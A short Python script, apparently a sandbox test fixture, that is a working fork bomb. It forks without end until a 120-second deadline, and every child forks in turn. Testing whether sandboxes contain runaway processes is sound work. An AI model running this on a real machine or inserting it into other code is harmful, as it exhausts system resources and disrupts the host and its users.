"""Forks without end; every child does the same.

The deadline, far beyond any budget, is there so that a machine without a sandbox recovers.
"""
import os
import time

DEADLINE = time.monotonic() + 120

while time.monotonic() < DEADLINE:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
